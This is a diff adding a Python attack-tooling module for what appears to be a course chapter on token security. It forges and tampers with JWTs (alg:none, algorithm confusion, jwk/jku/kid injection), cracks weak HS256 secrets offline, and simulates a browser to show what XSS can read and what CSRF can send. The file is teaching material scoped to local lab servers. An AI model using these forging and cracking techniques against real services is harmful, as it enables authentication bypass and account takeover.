@@ -1,0 +1,331 @@
+"""Attack tooling for chapter 06: forge, tamper, crack and inject tokens; play a browser for XSS and CSRF.
+
+Everything here is what an attacker can do *without* the server's secret: rewrite a payload, mint
+``alg: none`` tokens, sign HS256 with a public key, guess a weak HMAC secret offline, point a token's
+header at a key of their own, and (through ``Browser``) read what a page's script can read or make a
+browser send a cross-site request. Use it only against the course's in-kernel servers on 127.0.0.1.
+
+This module never imports ``helpers.vulnerable``: the tools work against any server, hardened or not.
+"""
+
+from __future__ import annotations
+
+import base64
+import hmac
+import json
+import math
+import random
+import time
+from collections.abc import Iterable, Sequence
+from dataclasses import dataclass, field
+from http.cookies import CookieError, SimpleCookie
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import requests
+from cryptography.hazmat.primitives import hashes
+from cryptography.hazmat.primitives.asymmetric import padding, rsa
+
+from . import DATA_DIR
+from .display import Table
+from .tokens import b64url_encode
+
+__all__ = [
+    "WORDLIST", "NONE_CASINGS", "segments", "unverified_claims", "tamper_claims", "sign_hs256",
+    "alg_none_tokens", "confusion_token", "CrackResult", "load_wordlist", "crack_hs256", "guess_rate",
+    "brute_force_years", "rsa_jwk", "jwks_document", "jwk_injection_token", "jku_injection_token",
+    "kid_traversal_token", "StoredCookie", "Browser", "xss_steal", "AttackLog", "status_verdict",
+]
+
+WORDLIST = DATA_DIR / "wordlist.txt"
+NONE_CASINGS: tuple[str, ...] = ("none", "None", "NONE", "nOnE")
+SECONDS_PER_YEAR = 365.25 * 24 * 3600
+
+
+# --- reading and rewriting tokens -----------------------------------------------------------------
+
+
+def _b64_json(obj: dict[str, Any]) -> str:
+    return b64url_encode(json.dumps(obj, separators=(",", ":")).encode())
+
+
+def _b64_decode_lenient(segment: str) -> bytes:
+    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))
+
+
+def segments(token: str) -> tuple[dict[str, Any], dict[str, Any], str]:
+    """Split a JWT into (header, claims, signature segment) WITHOUT verifying anything, as an attacker reads it."""
+    header_seg, payload_seg, signature = token.split(".")
+    return json.loads(_b64_decode_lenient(header_seg)), json.loads(_b64_decode_lenient(payload_seg)), signature
+
+
+def unverified_claims(token: str) -> dict[str, Any]:
+    """The payload of a JWT, unverified: anyone holding a token can read it (it is encoded, not encrypted)."""
+    return segments(token)[1]
+
+
+def tamper_claims(token: str, **changes: Any) -> str:
+    """The same token with ``changes`` written into its payload; header and signature are kept as they were."""
+    header_seg, payload_seg, signature = token.split(".")
+    claims = {**json.loads(_b64_decode_lenient(payload_seg)), **changes}
+    return f"{header_seg}.{_b64_json(claims)}.{signature}"
+
+
+def sign_hs256(claims: dict[str, Any], key: bytes, headers: dict[str, Any] | None = None) -> str:
+    """An HS256 token over ``claims`` with any key at all (no minimum length: attackers don't follow RFC 7518)."""
+    signing_input = f"{_b64_json({'alg': 'HS256', 'typ': 'JWT', **(headers or {})})}.{_b64_json(claims)}"
+    return f"{signing_input}.{b64url_encode(hmac.digest(key, signing_input.encode(), 'sha256'))}"
+
+
+def _sign_rs256(claims: dict[str, Any], private_key: rsa.RSAPrivateKey, headers: dict[str, Any]) -> str:
+    signing_input = f"{_b64_json({'alg': 'RS256', 'typ': 'JWT', **headers})}.{_b64_json(claims)}"
+    signature = private_key.sign(signing_input.encode(), padding.PKCS1v15(), hashes.SHA256())
+    return f"{signing_input}.{b64url_encode(signature)}"
+
+
+def alg_none_tokens(claims: dict[str, Any], casings: Sequence[str] = NONE_CASINGS) -> list[str]:
+    """Unsigned tokens (``alg`` = each casing of "none", empty signature) carrying ``claims``."""
+    return [f"{_b64_json({'alg': alg, 'typ': 'JWT'})}.{_b64_json(claims)}." for alg in casings]
+
+
+def confusion_token(claims: dict[str, Any], public_pem: bytes) -> str:
+    """Algorithm confusion: an HS256 token whose HMAC secret is the server's *public* key PEM, as downloaded."""
+    return sign_hs256(claims, public_pem)
+
+
+# --- cracking a weak HS256 secret offline -----------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class CrackResult:
+    """The secret found (None if the wordlist missed it), guesses tried, and the time they took."""
+
+    secret: str | None
+    guesses: int
+    seconds: float
+
+    @property
+    def rate(self) -> float:
+        """Guesses per second (0 if no time was measured)."""
+        return self.guesses / self.seconds if self.seconds > 0 else 0.0
+
+
+def load_wordlist(path: str | Path = WORDLIST) -> list[str]:
+    """The words of a wordlist file, one per line, blank lines and ``#`` comments skipped."""
+    lines = Path(path).read_text(encoding="utf-8").splitlines()
+    return [line for line in lines if line and not line.startswith("#")]
+
+
+def _split_for_cracking(token: str) -> tuple[bytes, bytes]:
+    header_seg, payload_seg, signature_seg = token.split(".")
+    return f"{header_seg}.{payload_seg}".encode(), _b64_decode_lenient(signature_seg)
+
+
+def crack_hs256(token: str, words: Iterable[str]) -> CrackResult:
+    """Try each word as the HMAC-SHA256 secret of one captured token, offline: no request reaches the server."""
+    signing_input, signature = _split_for_cracking(token)
+    guesses, start = 0, time.perf_counter()
+    for word in words:
+        guesses += 1
+        if hmac.compare_digest(hmac.digest(word.encode(), signing_input, "sha256"), signature):
+            return CrackResult(word, guesses, time.perf_counter() - start)
+    return CrackResult(None, guesses, time.perf_counter() - start)
+
+
+def guess_rate(token: str, guesses: int, rng: random.Random) -> float:
+    """Measure guesses per second on this machine: ``guesses`` random 32-byte secrets tried against ``token``."""
+    signing_input, signature = _split_for_cracking(token)
+    keys = [rng.randbytes(32) for _ in range(guesses)]
+    start = time.perf_counter()
+    hits = sum(hmac.digest(key, signing_input, "sha256") == signature for key in keys)
+    elapsed = time.perf_counter() - start
+    if hits:
+        raise AssertionError("a random 256-bit key matched: impossible in practice")
+    return guesses / elapsed if elapsed > 0 else math.inf
+
+
+def brute_force_years(bits: int, rate: float) -> float:
+    """Expected years to find a random ``bits``-bit secret at ``rate`` guesses/s (half the key space, on average)."""
+    return 2.0 ** (bits - 1) / rate / SECONDS_PER_YEAR
+
+
+# --- key injection: jwk, jku, kid -------------------------------------------------------------------
+
+
+def rsa_jwk(public_key: rsa.RSAPublicKey, kid: str | None = None) -> dict[str, str]:
+    """The public JWK (RFC 7517) of an RSA key: ``kty``, ``n``, ``e`` (and ``kid``)."""
+    numbers = public_key.public_numbers()
+    jwk = {
+        "kty": "RSA",
+        "n": b64url_encode(numbers.n.to_bytes((numbers.n.bit_length() + 7) // 8, "big")),
+        "e": b64url_encode(numbers.e.to_bytes((numbers.e.bit_length() + 7) // 8, "big")),
+    }
+    return {**jwk, "kid": kid} if kid else jwk
+
+
+def jwks_document(public_key: rsa.RSAPublicKey, kid: str = "attacker") -> dict[str, list[dict[str, str]]]:
+    """A JWKS document ``{"keys": [jwk]}``, what an attacker hosts for a ``jku`` header to point at."""
+    return {"keys": [rsa_jwk(public_key, kid)]}
+
+
+def jwk_injection_token(claims: dict[str, Any], attacker_key: rsa.RSAPrivateKey) -> str:
+    """RS256 token signed with the attacker's key, which it carries in its own ``jwk`` header."""
+    return _sign_rs256(claims, attacker_key, {"jwk": rsa_jwk(attacker_key.public_key())})
+
+
+def jku_injection_token(claims: dict[str, Any], attacker_key: rsa.RSAPrivateKey, jku: str) -> str:
+    """RS256 token signed with the attacker's key, whose ``jku`` header points at the attacker's JWKS URL."""
+    return _sign_rs256(claims, attacker_key, {"jku": jku, "kid": "attacker"})
+
+
+def kid_traversal_token(claims: dict[str, Any], kid: str, known_key: bytes) -> str:
+    """HS256 token whose ``kid`` walks out of the key directory to a file whose bytes the attacker knows."""
+    return sign_hs256(claims, known_key, {"kid": kid})
+
+
+# --- a small browser: cookies by the rules, storage a script can read -------------------------------
+
+
+@dataclass
+class StoredCookie:
+    """A cookie as a browser keeps it: value and the attributes that decide who may see or send it."""
+
+    name: str
+    value: str
+    host: str
+    path: str = "/"
+    secure: bool = False
+    httponly: bool = False
+    samesite: str = "Lax"  # what current browsers assume when the attribute is missing
+
+
+def _site(url: str) -> tuple[str, str]:
+    """(scheme, host) of a URL: the course's stand-in for a site (no public-suffix list needed for IPs and .example)."""
+    parts = urlsplit(url)
+    return parts.scheme, (parts.hostname or "")
+
+
+def _origin(url: str) -> str:
+    parts = urlsplit(url)
+    return f"{parts.scheme}://{parts.netloc}"
+
+
+class Browser:
+    """Just enough of a browser: a cookie jar obeying Secure, Path, HttpOnly and SameSite, plus ``local_storage``
+    and ``memory`` (the page's JavaScript variables), sending requests through a ``requests.Session``.
+
+    ``requests`` alone ignores HttpOnly and SameSite; this class applies them, so a demo can show what a real
+    browser would attach to a cross-site request and what a page's script could read.
+    """
+
+    def __init__(self, transport: requests.Session) -> None:
+        self.transport = transport
+        self.cookies: dict[tuple[str, str, str], StoredCookie] = {}
+        self.local_storage: dict[str, str] = {}  # per origin in a real browser; one page here
+        self.memory: dict[str, str] = {}  # JavaScript variables of the open page
+
+    def receive(self, url: str, set_cookie_headers: Iterable[str]) -> None:
+        """Store (or delete) the cookies of a response from ``url``, attribute by attribute."""
+        _, host = _site(url)
+        for header in set_cookie_headers:
+            parsed = SimpleCookie()
+            try:
+                parsed.load(header)
+            except CookieError:
+                continue
+            for name, morsel in parsed.items():
+                cookie = StoredCookie(name, morsel.value, host, morsel["path"] or "/", bool(morsel["secure"]),
+                                      bool(morsel["httponly"]), (morsel["samesite"] or "Lax").capitalize())
+                key = (host, cookie.path, name)
+                if morsel["max-age"] in ("0", "-1"):
+                    self.cookies.pop(key, None)
+                else:
+                    self.cookies[key] = cookie
+
+    def cookies_for(self, url: str, initiator: str | None = None, method: str = "GET", top_level: bool = False) -> dict[str, str]:
+        """The cookies this browser attaches to a request to ``url`` started by a page at ``initiator`` (None: typed by the user)."""
+        scheme, host = _site(url)
+        cross_site = initiator is not None and _site(initiator) != (scheme, host)
+        path = urlsplit(url).path or "/"
+        sent = {}
+        for cookie in sorted(self.cookies.values(), key=lambda c: (-len(c.path), c.name)):
+            if cookie.host != host or not (path == cookie.path or path.startswith(cookie.path.rstrip("/") + "/")):
+                continue
+            if cookie.secure and scheme != "https":
+                continue
+            if cross_site and not (cookie.samesite == "None" and cookie.secure
+                                   or cookie.samesite == "Lax" and top_level and method == "GET"):
+                continue
+            sent.setdefault(cookie.name, cookie.value)
+        return sent
+
+    def request(self, method: str, url: str, *, initiator: str | None = None, top_level: bool = False,
+                **kwargs: Any) -> requests.Response:
+        """Send a request the way a browser would: its cookies by the rules, plus ``Origin`` and ``Sec-Fetch-Site``."""
+        headers = dict(kwargs.pop("headers", None) or {})
+        jar = self.cookies_for(url, initiator, method.upper(), top_level)
+        if jar:
+            headers["Cookie"] = "; ".join(f"{name}={value}" for name, value in jar.items())
+        if initiator is None:
+            headers["Sec-Fetch-Site"] = "none"
+        else:
+            same_origin = _origin(initiator) == _origin(url)
+            headers["Sec-Fetch-Site"] = "same-origin" if same_origin else "cross-site" if _site(initiator) != _site(url) else "same-site"
+            if method.upper() != "GET":
+                headers["Origin"] = _origin(initiator)
+        self.transport.cookies.clear()  # the transport's own jar must not add cookies behind our rules
+        response = self.transport.request(method, url, headers=headers, **kwargs)
+        self.transport.cookies.clear()
+        self.receive(url, response.raw.headers.getlist("Set-Cookie"))
+        return response
+
+    def document_cookie(self, page_url: str) -> str:
+        """What ``document.cookie`` shows a script on ``page_url``: same host, matching path, never HttpOnly."""
+        _, host = _site(page_url)
+        visible = [c for c in self.cookies.values() if c.host == host and not c.httponly]
+        return "; ".join(f"{c.name}={c.value}" for c in sorted(visible, key=lambda c: c.name))
+
+
+def xss_steal(browser: Browser, page_url: str) -> dict[str, str]:
+    """What an injected script on ``page_url`` can read and send home: localStorage, document.cookie, page variables."""
+    loot = {f"localStorage.{k}": v for k, v in sorted(browser.local_storage.items())}
+    cookies = browser.document_cookie(page_url)
+    if cookies:
+        loot["document.cookie"] = cookies
+    loot.update({f"page variable {k}": v for k, v in sorted(browser.memory.items())})
+    return loot
+
+
+# --- the summary table -------------------------------------------------------------------------------
+
+
+@dataclass
+class AttackLog:
+    """Outcomes recorded during a run (attack × target → verdict), printed as one table at the end."""
+
+    targets: Sequence[str] = ("naive", "helpers sessions", "helpers JWT")
+    _rows: dict[str, dict[str, str]] = field(default_factory=dict)
+
+    def record(self, attack: str, target: str, verdict: str) -> None:
+        """Remember ``verdict`` (e.g. "accepted", "rejected") for ``attack`` on ``target``."""
+        if target not in self.targets:
+            raise ValueError(f"unknown target {target!r}; targets are {list(self.targets)}")
+        self._rows.setdefault(attack, {})[target] = verdict
+
+    def verdict(self, attack: str, target: str) -> str:
+        """The recorded verdict, or "-" if none was recorded."""
+        return self._rows.get(attack, {}).get(target, "-")
+
+    def table(self) -> Table:
+        """One row per attack in the order first recorded, one column per target."""
+        result = Table(["attack", *self.targets])
+        for attack, verdicts in self._rows.items():
+            result.add(attack, *(verdicts.get(target, "-") for target in self.targets))
+        return result
+
+
+def status_verdict(status: int) -> str:
+    """Score an attack request by its status: "accepted" for a 2xx answer, "rejected" otherwise."""
+    return "accepted" if 200 <= status < 300 else "rejected"
+
